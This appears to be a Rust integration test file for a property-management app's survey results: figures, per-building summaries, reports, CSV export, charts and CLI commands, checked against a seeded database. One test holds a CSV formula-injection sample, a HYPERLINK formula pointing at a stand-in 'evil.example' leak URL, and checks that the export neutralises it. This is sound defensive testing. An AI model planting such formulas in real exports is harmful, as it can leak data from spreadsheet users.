//! Survey results against a real database: a survey imported from a file,
//! owners invited and answering through the store, and the figures, the
//! report, the CSV and the chart checked against what was answered.

use chrono::{DateTime, Duration, TimeZone, Utc};
use chrono_tz::Asia::Shanghai;
use propdesk::domain::survey::{Answer, Rating};
use propdesk::i18n::Locale;
use propdesk::services::people::Asker;
use propdesk::services::survey_file;
use propdesk::services::survey_results::{self, BuildingSummary, CHART_PANEL_HEIGHT, CHART_WIDTH, Detail, compute};
use propdesk::store::surveys;
use propdesk::store::testdb::{TestDb, fresh_database};

const SURVEY: &str = "
title: 2026年第四季度业主满意度调查
questions:
  - type: rating
    prompt: 您对维修服务的满意程度？
  - type: rating
    prompt: 您对公共区域保洁的满意程度？
  - type: single
    prompt: 您最近一次报修的问题是否得到解决？
    options: [已解决, 部分解决, 未解决]
  - type: multiple
    prompt: 您希望我们重点改进哪些方面？
    options: [维修服务, 保洁卫生, 绿化养护]
  - type: text
    prompt: 您还有哪些意见或建议？
    required: false
";

fn t0() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 12, 2, 1, 0, 0).unwrap() // 09:00 in Shanghai
}

struct Seeded {
    db: TestDb,
    survey: i64,
    /// Response ids by (telegram id, room).
    responses: Vec<(i64, &'static str, i64)>,
}

impl Seeded {
    fn response(&self, who: i64, room: &str) -> i64 {
        self.responses.iter().find(|(w, r, _)| *w == who && *r == room).unwrap().2
    }
}

const WANG: i64 = 1001;
const LI: i64 = 1002;
const ZHANG: i64 = 1003;
const ZHAO: i64 = 1004;

/// Buildings 1 (1单元101, 102) and 2 (201, 202, no entrances); 王芳 in 101,
/// 李明 in 102 and 202, 张伟 in 201, 赵敏 in 202: five invitations.
async fn seeded() -> Seeded {
    let db = fresh_database().await.expect("a fresh test database");
    let community: i64 = sqlx::query_scalar("INSERT INTO communities (name) VALUES ('阳光花园') RETURNING id")
        .fetch_one(&db.pool)
        .await
        .unwrap();
    let mut units = Vec::new();
    for (building, entrance, room) in [("1", "1", "101"), ("1", "1", "102"), ("2", "", "201"), ("2", "", "202")] {
        let id: i64 = sqlx::query_scalar(
            "INSERT INTO units (community_id, building, entrance, room) VALUES ($1, $2, $3, $4) RETURNING id",
        )
        .bind(community)
        .bind(building)
        .bind(entrance)
        .bind(room)
        .fetch_one(&db.pool)
        .await
        .unwrap();
        units.push((room, id));
    }
    for (user, name) in [(WANG, "王芳"), (LI, "李明"), (ZHANG, "张伟"), (ZHAO, "赵敏")] {
        sqlx::query("INSERT INTO users (telegram_id, first_name, locale) VALUES ($1, $2, 'zh-CN')")
            .bind(user)
            .bind(format!("tg-{name}"))
            .execute(&db.pool)
            .await
            .unwrap();
    }
    let unit = |room: &str| units.iter().find(|(r, _)| *r == room).unwrap().1;
    for (user, name, room) in
        [(WANG, "王芳", "101"), (LI, "李明", "102"), (LI, "李明", "202"), (ZHANG, "张伟", "201"), (ZHAO, "赵敏", "202")]
    {
        sqlx::query(
            "INSERT INTO unit_residents (telegram_id, unit_id, name, relation, verified_by) VALUES ($1, $2, $3, 'owner', 'roster')",
        )
        .bind(user)
        .bind(unit(room))
        .bind(name)
        .execute(&db.pool)
        .await
        .unwrap();
    }

    let spec = survey_file::parse("q4.yaml", SURVEY.as_bytes(), t0() - Duration::days(3), Shanghai).unwrap();
    let mut tx = db.pool.begin().await.unwrap();
    let survey = survey_file::import(&mut tx, community, &spec, None, t0() - Duration::days(2)).await.unwrap();
    tx.commit().await.unwrap();
    let mut conn = db.pool.acquire().await.unwrap();
    let row = surveys::get(&mut conn, survey).await.unwrap().unwrap();
    let invited = surveys::invite_audience(&mut conn, &row, t0() - Duration::days(1)).await.unwrap();
    assert_eq!(invited.len(), 5);
    let room_of = |unit_id: i64| units.iter().find(|(_, id)| *id == unit_id).unwrap().0;
    let responses = invited.iter().map(|r| (r.telegram_id, room_of(r.unit_id), r.id)).collect();
    drop(conn);
    Seeded { db, survey, responses }
}

async fn answer(s: &Seeded, response: i64, answers: &[(i16, Answer)], submitted: Option<DateTime<Utc>>) {
    let mut conn = s.db.pool.acquire().await.unwrap();
    let at = submitted.unwrap_or(t0()) - Duration::minutes(5);
    for (position, a) in answers {
        surveys::save_answer(&mut conn, response, *position, a, at).await.unwrap();
    }
    if let Some(at) = submitted {
        surveys::submit(&mut conn, response, at).await.unwrap();
    }
}

fn stars(n: u8) -> Answer {
    Answer::Rating(Rating::parse(n).unwrap())
}

/// 王芳, 李明 (102) and 张伟 submit; 赵敏 starts but never submits; 李明's 202 is untouched.
async fn answered() -> Seeded {
    let s = seeded().await;
    use Answer::{Choices, Text};
    let wang =
        [(0, stars(5)), (1, stars(4)), (2, Choices(vec![0])), (3, Choices(vec![0, 2])), (4, Text("电梯经常坏".into()))];
    answer(&s, s.response(WANG, "101"), &wang, Some(t0())).await;
    let li = [(0, stars(3)), (1, stars(2)), (2, Choices(vec![1])), (3, Choices(vec![2]))];
    answer(&s, s.response(LI, "102"), &li, Some(t0() + Duration::hours(1))).await;
    let zhang = [
        (0, stars(4)),
        (1, stars(5)),
        (2, Choices(vec![0])),
        (3, Choices(vec![0, 1, 2])),
        (4, Text("保洁很好\n谢谢".into())),
    ];
    answer(&s, s.response(ZHANG, "201"), &zhang, Some(t0() + Duration::hours(2))).await;
    let zhao = [(0, stars(1)), (4, Text("未提交的意见".into()))];
    answer(&s, s.response(ZHAO, "202"), &zhao, None).await;
    s
}

#[tokio::test]
async fn the_figures_count_only_submitted_responses() {
    let s = answered().await;
    let mut conn = s.db.pool.acquire().await.unwrap();
    let r = compute(&mut conn, Asker::Operator, s.survey, None).await.unwrap().unwrap();
    assert_eq!(r.title, "2026年第四季度业主满意度调查");
    assert_eq!((r.invited, r.submitted, r.response_rate()), (5, 3, 60));
    assert_eq!(r.questions.len(), 5);

    assert_eq!(r.questions[0].detail, Detail::Rating { counts: [0, 0, 1, 1, 1] }, "赵敏's 1 star is not counted");
    assert_eq!(r.questions[0].average(), Some(4.0));
    assert_eq!(r.questions[1].detail, Detail::Rating { counts: [0, 1, 0, 1, 1] });
    assert!((r.questions[1].average().unwrap() - 11.0 / 3.0).abs() < 1e-9);
    assert_eq!(r.questions[2].detail, Detail::Choices { counts: vec![2, 1, 0] });
    assert_eq!(r.questions[3].detail, Detail::Choices { counts: vec![2, 1, 3] });
    assert_eq!(r.questions.iter().map(|q| q.answered).collect::<Vec<_>>(), vec![3, 3, 3, 3, 2]);
    let Detail::Text { latest } = &r.questions[4].detail else { panic!("a text question") };
    let texts: Vec<&str> = latest.iter().map(|t| t.text.as_str()).collect();
    assert_eq!(texts, vec!["保洁很好\n谢谢", "电梯经常坏"], "newest first, the unsubmitted one left out");

    assert_eq!(
        r.buildings(),
        &[
            BuildingSummary { building: "1".into(), invited: 2, submitted: 2, average_rating: Some(3.5) },
            BuildingSummary { building: "2".into(), invited: 3, submitted: 1, average_rating: Some(4.5) },
        ]
    );
    assert_eq!(r.buildings()[1].response_rate(), 33);
}

#[tokio::test]
async fn one_building_shows_only_its_answers() {
    let s = answered().await;
    let mut conn = s.db.pool.acquire().await.unwrap();
    let r = compute(&mut conn, Asker::Operator, s.survey, Some("2")).await.unwrap().unwrap();
    assert_eq!(r.building.as_deref(), Some("2"));
    assert_eq!((r.invited, r.submitted, r.response_rate()), (3, 1, 33));
    assert_eq!(r.questions[0].detail, Detail::Rating { counts: [0, 0, 0, 1, 0] });
    assert_eq!(r.questions[3].detail, Detail::Choices { counts: vec![1, 1, 1] });
    assert_eq!(r.questions[4].answered, 1);
    assert_eq!(r.buildings().len(), 2, "every building stays listed for the buttons");
    assert!(compute(&mut conn, Asker::Operator, s.survey + 1000, None).await.unwrap().is_err());
}

#[tokio::test]
async fn the_report_reads_as_an_admin_expects() {
    let s = answered().await;
    let mut conn = s.db.pool.acquire().await.unwrap();
    let r = compute(&mut conn, Asker::Operator, s.survey, None).await.unwrap().unwrap();
    let zh = r.report().render(Locale::ZhCn);
    for expected in [
        "📊 2026年第四季度业主满意度调查",
        "发放 5 份，收回 3 份，回收率 60%",
        "1. 您对维修服务的满意程度？（评分（1–5 星））",
        "平均 4.0 分（3 人评分）",
        "5★ ███░░░░░░░ 1（33%）",
        "2★ ░░░░░░░░░░ 0（0%）",
        "平均 3.7 分（3 人评分）",
        "· 已解决：2（67%）",
        "· 未解决：0（0%）",
        "· 绿化养护：3（100%）",
        "共 2 条意见，最新几条：",
        "· 保洁很好 谢谢",
        "· 电梯经常坏",
    ] {
        assert!(zh.contains(expected), "missing {expected:?} in:\n{zh}");
    }
    assert!(!zh.contains("未提交"), "{zh}");
    let en = r.report().render(Locale::En);
    assert!(en.contains("Invited 5, answered 3: response rate 60%"), "{en}");
    assert!(en.contains("Average 4.0 (3 ratings)"), "{en}");

    let by_building = r.building_report().render(Locale::ZhCn);
    assert!(by_building.contains("1栋：回收率 100%（2/2），平均 3.5 分"), "{by_building}");
    assert!(by_building.contains("2栋：回收率 33%（1/3），平均 4.5 分"), "{by_building}");
}

#[tokio::test]
async fn the_csv_has_one_row_per_submitted_response() {
    let s = answered().await;
    let mut conn = s.db.pool.acquire().await.unwrap();
    let bytes = survey_results::csv(&mut conn, Asker::Operator, s.survey, Shanghai).await.unwrap().unwrap();
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a UTF-8 byte-order mark for Excel");
    let mut reader = csv::Reader::from_reader(body);
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(
        header,
        vec![
            "response_id",
            "building",
            "unit",
            "name",
            "submitted_at",
            "Q1 您对维修服务的满意程度？",
            "Q2 您对公共区域保洁的满意程度？",
            "Q3 您最近一次报修的问题是否得到解决？",
            "Q4 您希望我们重点改进哪些方面？",
            "Q5 您还有哪些意见或建议？",
        ]
    );
    let rows: Vec<Vec<String>> = reader.records().map(|r| r.unwrap().iter().map(String::from).collect()).collect();
    let id = |who, room| s.response(who, room).to_string();
    assert_eq!(
        rows,
        vec![
            vec![
                id(WANG, "101"),
                "1".into(),
                "1栋1单元101".into(),
                "王芳".into(),
                "2026-12-02 09:00".into(),
                "5".into(),
                "4".into(),
                "已解决".into(),
                "维修服务; 绿化养护".into(),
                "电梯经常坏".into()
            ],
            vec![
                id(LI, "102"),
                "1".into(),
                "1栋1单元102".into(),
                "李明".into(),
                "2026-12-02 10:00".into(),
                "3".into(),
                "2".into(),
                "部分解决".into(),
                "绿化养护".into(),
                "".into()
            ],
            vec![
                id(ZHANG, "201"),
                "2".into(),
                "2栋201".into(),
                "张伟".into(),
                "2026-12-02 11:00".into(),
                "4".into(),
                "5".into(),
                "已解决".into(),
                "维修服务; 保洁卫生; 绿化养护".into(),
                "保洁很好\n谢谢".into()
            ],
        ]
    );
    assert!(survey_results::csv(&mut conn, Asker::Operator, s.survey + 1000, Shanghai).await.unwrap().is_err());
}

#[tokio::test]
async fn a_formula_an_owner_typed_reaches_the_csv_as_text() {
    let s = seeded().await;
    let link = r#"=HYPERLINK("http://evil.example/?leak","点击查看")"#;
    let answers = [(0, stars(5)), (2, Answer::Choices(vec![0])), (4, Answer::Text(link.into()))];
    answer(&s, s.response(WANG, "101"), &answers, Some(t0())).await;
    let mut conn = s.db.pool.acquire().await.unwrap();
    let bytes = survey_results::csv(&mut conn, Asker::Operator, s.survey, Shanghai).await.unwrap().unwrap();
    let body = bytes.strip_prefix(b"\xEF\xBB\xBF").expect("a UTF-8 byte-order mark for Excel");
    let mut reader = csv::Reader::from_reader(body);
    let rows: Vec<Vec<String>> = reader.records().map(|r| r.unwrap().iter().map(String::from).collect()).collect();
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0][9], format!("'{link}"), "a leading quote keeps it text in Excel");
}

#[tokio::test]
async fn the_chart_is_a_png_with_a_panel_per_rating_question() {
    let s = answered().await;
    let mut conn = s.db.pool.acquire().await.unwrap();
    let r = compute(&mut conn, Asker::Operator, s.survey, None).await.unwrap().unwrap();
    assert!(r.has_chart());
    let png = r.chart_png().unwrap();
    assert_eq!(&png[..8], b"\x89PNG\r\n\x1a\n");
    assert_eq!(&png[12..16], b"IHDR");
    let be = |b: &[u8]| u32::from_be_bytes([b[0], b[1], b[2], b[3]]);
    assert_eq!((be(&png[16..20]), be(&png[20..24])), (CHART_WIDTH, 2 * CHART_PANEL_HEIGHT));
    assert!(png.len() > 2_000 && png.len() < 2_000_000, "{} bytes", png.len());
}

#[tokio::test]
async fn a_survey_nobody_answered_yet_reports_zeros() {
    let s = seeded().await;
    let mut conn = s.db.pool.acquire().await.unwrap();
    let r = compute(&mut conn, Asker::Operator, s.survey, None).await.unwrap().unwrap();
    assert_eq!((r.invited, r.submitted, r.response_rate()), (5, 0, 0));
    assert!(r.questions.iter().all(|q| q.answered == 0));
    assert!(r.report().render(Locale::ZhCn).contains("暂无作答"));
    assert!(r.chart_png().is_ok());
    let bytes = survey_results::csv(&mut conn, Asker::Operator, s.survey, Shanghai).await.unwrap().unwrap();
    assert_eq!(csv::Reader::from_reader(&bytes[3..]).records().count(), 0);
}

// The CLI: `propdesk survey import | list | export`.

fn propdesk() -> std::process::Command {
    let mut cmd = std::process::Command::new(env!("CARGO_BIN_EXE_propdesk"));
    // Only what a test sets: no DATABASE_URL or .env from the developer's shell.
    cmd.env_clear().env("PATH", std::env::var("PATH").unwrap_or_default()).current_dir(std::env::temp_dir());
    cmd
}

#[test]
fn a_bad_file_is_refused_with_every_error_at_its_line_before_any_database() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("q4.yaml");
    std::fs::write(
        &file,
        "title: t\nquestions:\n  - type: rating\n    prompt: a\n    options: [x, y]\n  - type: slider\n",
    )
    .unwrap();
    // No DATABASE_URL: had it got that far, it would start a cluster.
    let out = propdesk().args(["survey", "import"]).arg(&file).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    let err = String::from_utf8_lossy(&out.stderr);
    let shown = file.display();
    assert!(err.contains(&format!("{shown}:5: 第 1 题的选项：")), "{err}");
    assert!(err.contains(&format!("{shown}:6: 第 2 题的 type：没有「slider」这种题型")), "{err}");
    let en = propdesk().args(["survey", "import"]).arg(&file).env("DEFAULT_LOCALE", "en").output().unwrap();
    assert!(String::from_utf8_lossy(&en.stderr).contains("there is no question type “slider”"));
}

#[tokio::test]
async fn the_cli_imports_lists_and_exports_a_survey() {
    let s = answered().await;
    // Not the example file: its dates pass one day, and it would be refused.
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("q4.yml");
    std::fs::write(&file, SURVEY).unwrap();
    let out = propdesk().args(["survey", "import"]).arg(&file).env("DATABASE_URL", &s.db.url).output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(said.contains(&format!("survey {} imported as a draft in 阳光花园", s.survey + 1)), "{said}");

    let out = propdesk().args(["survey", "list"]).env("DATABASE_URL", &s.db.url).output().unwrap();
    let listed = String::from_utf8_lossy(&out.stdout);
    let line = listed.lines().find(|l| l.trim_start().starts_with(&format!("{} ", s.survey))).unwrap();
    let columns: Vec<&str> = line.split_whitespace().collect();
    assert_eq!(&columns[..5], &[s.survey.to_string().as_str(), "draft", "5", "3", "阳光花园"], "{listed}");

    let out = propdesk()
        .args(["survey", "export", &s.survey.to_string(), "--format", "csv"])
        .env("DATABASE_URL", &s.db.url)
        .env("TIME_ZONE", "Asia/Shanghai")
        .output()
        .unwrap();
    assert!(out.status.success());
    let mut conn = s.db.pool.acquire().await.unwrap();
    assert_eq!(out.stdout, survey_results::csv(&mut conn, Asker::Operator, s.survey, Shanghai).await.unwrap().unwrap());

    let out = propdesk().args(["survey", "export", "999999"]).env("DATABASE_URL", &s.db.url).output().unwrap();
    assert_eq!(out.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&out.stderr).contains("there is no survey 999999"));
}
